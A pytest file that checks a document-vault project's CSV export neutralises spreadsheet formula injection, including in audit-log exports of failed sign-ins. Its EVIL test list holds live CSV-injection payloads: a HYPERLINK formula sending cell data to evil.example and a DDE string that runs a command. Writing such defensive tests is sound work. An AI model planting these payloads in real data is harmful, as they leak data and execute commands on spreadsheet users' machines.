"""Security review M1: no CSV export hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy.engine import Engine

from papervault.index import csvcells
from papervault.index.accounts import audit
from papervault.index.catalog.db import session_scope

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"查看")', "=cmd|' /C calc'!A0", "@SUM(1+1)",
        "-2+3", "+cmd", "\tx", "\rx", "＝1+1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_cells_are_quoted(value: str) -> None:
    assert csvcells.cell(value) == "'" + value
    assert csvcells.cell("KH-2024-000001") == "KH-2024-000001"
    assert csvcells.cell(-3) == -3  # numbers stay numbers


def test_audit_export_of_an_anonymous_sign_in_name_is_inert(engine: Engine) -> None:
    """GIVEN a sign-in attempt with a formula as the user name (anonymous, review M1)
    WHEN an auditor exports the trail THEN every cell reads as text."""
    with session_scope(engine) as s:
        for v in EVIL:
            audit.record(s, b"k" * 32, v, "login.failed", f"user:{v}", origin="web 10.66.0.1")
    with session_scope(engine) as s:
        data = audit.entries_csv(s, audit.LogFilter()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))[1:]
    assert len(rows) == len(EVIL)
    for r in rows:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for c in r), r
    assert {r[2] for r in rows} == {"'" + v for v in EVIL}
